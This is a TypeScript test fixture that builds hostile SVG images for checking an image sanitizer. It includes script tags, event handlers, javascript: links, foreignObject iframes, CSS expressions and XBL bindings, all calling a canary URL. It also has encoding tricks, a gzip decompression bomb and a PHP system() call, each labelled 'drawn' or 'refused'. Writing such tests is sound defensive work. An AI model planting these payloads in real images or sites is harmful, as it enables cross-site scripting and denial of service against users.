// SVGs that run something in a browser, or are not SVG at all.
import { gzipSync } from "node:zlib";
import { type Canary, type HostileImage, MARK, svg, svgDocument } from "./sample";

const SHAPE = '<rect width="50" height="50" fill="#00aa00"/>';

/** Content that calls the canary from a browser, each in a document that draws a square. */
function activeContent({ httpUrl }: Canary): Record<string, string> {
  const call = `fetch('${httpUrl}/script-${MARK}')`;
  const html = 'xmlns="http://www.w3.org/1999/xhtml"';
  return {
    "a script": `<script>${call}</script>`,
    "a script in CDATA": `<script><![CDATA[${call}]]></script>`,
    "a script under a prefix": `<s:script xmlns:s="http://www.w3.org/2000/svg">${call}</s:script>`,
    "a script in a nested SVG": `<svg onload="${call}"><script>${call}</script></svg>`,
    "a script in a text": `<text y="50">x<script>${call}</script></text>`,
    "a script in a style": `<style>&lt;/style>&lt;script>${call}&lt;/script></style>`,
    "a handler of load": `<g onload="${call}">${SHAPE}</g>`,
    "a handler of focus": `<g tabindex="1" autofocus="" onfocusin="${call}"/>`,
    "a handler element": `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${call}</handler>`,
    "a link to a script": `<a href="javascript:${call}"><text y="50">click</text></a>`,
    "a link to a script by xlink": `<a xlink:href="javascript:${call}">${SHAPE}</a>`,
    "an animated link": `<a id="a">${SHAPE}</a><animate href="#a" attributeName="href" values="javascript:${call}"/>`,
    "a set handler": `<rect><set attributeName="onmouseover" to="${call}"/></rect>`,
    "an animation that begins a script": `<animate onbegin="${call}" attributeName="x" dur="1s"/>`,
    "a foreign iframe": `<foreignObject width="100" height="100"><iframe ${html} src="${httpUrl}/${MARK}"/></foreignObject>`,
    "a foreign body": `<foreignObject><body ${html} onload="${call}"><script>${call}</script></body></foreignObject>`,
    "a foreign object in a switch": `<switch><foreignObject requiredExtensions="x"><p ${html}>${MARK}</p></foreignObject><g>${SHAPE}</g></switch>`,
    "an iframe": `<iframe ${html} srcdoc="&lt;script>${call}&lt;/script>"/>`,
    "a CSS expression": `<style>rect{width:expression(${call.replaceAll("'", "")})}</style>`,
  };
}

/** The same, referring to something outside of the document. */
function outwardContent({ httpUrl }: Canary): Record<string, string> {
  const call = `fetch('${httpUrl}/script-${MARK}')`;
  return {
    "a script from elsewhere": `<script href="${httpUrl}/${MARK}.js"/>`,
    "a script in a data URI": `<script href="data:text/javascript,${call}"/>`,
    "an XBL binding": `<style>rect{-moz-binding:url(${httpUrl}/x.xml#${MARK})}</style>`,
    "a behavior": `<rect style="behavior:url(${httpUrl}/x.htc)" width="9" height="9"/>`,
  };
}

function disguised(canary: Canary): HostileImage[] {
  const active = svgDocument(`<script>fetch('${canary.httpUrl}/${MARK}')</script>${SHAPE}`);
  const utf16 = Buffer.from(`\uFEFF<?xml version="1.0" encoding="UTF-16"?>${active}`, "utf16le");
  return [
    svg("drawn", "a script in UTF-16", utf16),
    svg("drawn", "a script in UTF-16, big-endian", Buffer.from(utf16).swap16()),
    svg("drawn", "a script in ISO-8859-1", `<?xml version="1.0" encoding="ISO-8859-1"?>${active}`),
    svg("refused", "a script in UTF-7", `<?xml version="1.0" encoding="UTF-7"?>${active}`),
    svg("refused", "an unknown encoding", `<?xml version="1.0" encoding="x-secret"?>${active}`),
    svg("refused", "bytes that are no UTF-8", Buffer.from(`${active}\xff\xfe`, "latin1")),
    svg("refused", "a compressed SVG", gzipSync(active)),
    svg("refused", "a compressed bomb", gzipSync(`<svg>${" ".repeat(40_000_000)}</svg>`)),
    svg("refused", "an SVG with a script after its end", `${active}<script>${MARK}</script>`),
    svg("refused", "text after its end", `${active}${MARK}`),
    svg("refused", "an SVG that ends in the middle", active.slice(0, -30)),
    svg("refused", "an SVG that ends in a tag", active.slice(0, 150)),
    svg("refused", "tags that cross", svgDocument("<g><defs></g></defs>")),
    svg("refused", "a prefix without a namespace", svgDocument('<g><x:y z="1"/></g>')),
    svg("refused", "a root of another namespace", '<svg xmlns="urn:other"><rect/></svg>'),
    svg(
      "refused",
      "an HTML page",
      `<!DOCTYPE html><html><body><script>${MARK}</script></body></html>`,
    ),
    svg("refused", "an XHTML page", `<html xmlns="http://www.w3.org/1999/xhtml">${active}</html>`),
    svg("refused", "a program in PHP", `<?php system("${MARK}"); ?>`),
    svg("refused", "plain text", `${MARK} is not markup`),
    svg("refused", "one bracket", "<"),
    svg("refused", "white space", "  \n "),
    svg("refused", "nothing", ""),
    svg("refused", "zeros", Buffer.alloc(1000)),
  ];
}

export function svgScripts(canary: Canary): HostileImage[] {
  const each = (outcome: HostileImage["outcome"], contents: Record<string, string>) =>
    Object.entries(contents).map(([name, content]) =>
      svg(outcome, name, svgDocument(SHAPE + content)),
    );
  return [
    ...each("drawn", activeContent(canary)),
    ...each("refused", outwardContent(canary)),
    ...disguised(canary),
  ];
}
